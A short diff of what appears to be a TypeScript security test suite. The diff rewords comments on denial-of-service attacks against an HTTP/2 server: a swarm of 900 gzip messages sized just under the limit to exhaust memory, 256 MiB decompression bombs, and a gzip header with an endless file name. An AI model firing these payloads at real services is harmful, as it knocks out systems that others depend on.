@@ -9,7 +9,7 @@ const MiB = 1024 * 1024;
 const bombBytes = 256 * MiB;
 const bombs = 20;
 
-/** Less than a message may have, in so many calls that all of them together would fill the memory. */
+/** The size of one decompressed message, below the limit. All messages of the swarm together would fill the memory. */
 const swarmBytes = 3.9 * MiB;
 const swarm = 900;
 
@@ -33,7 +33,7 @@ export const bombSwarm: Attack = async (target) => {
   return tally(await postHttp2(target, { ...post, headers: { "content-encoding": "gzip" } }, swarm));
 };
 
-/** A header of gzip whose file name has no end, in as many bytes as the method takes. */
+/** A header of gzip whose file name has no end, as large as the method accepts. */
 export const endlessGzipHeader: Attack = async (target) => {
   const header = Buffer.from([0x1f, 0x8b, 8, 8, 0, 0, 0, 0, 0, 3]);
   const body = Buffer.concat([header, Buffer.alloc(16_000, "a")]);
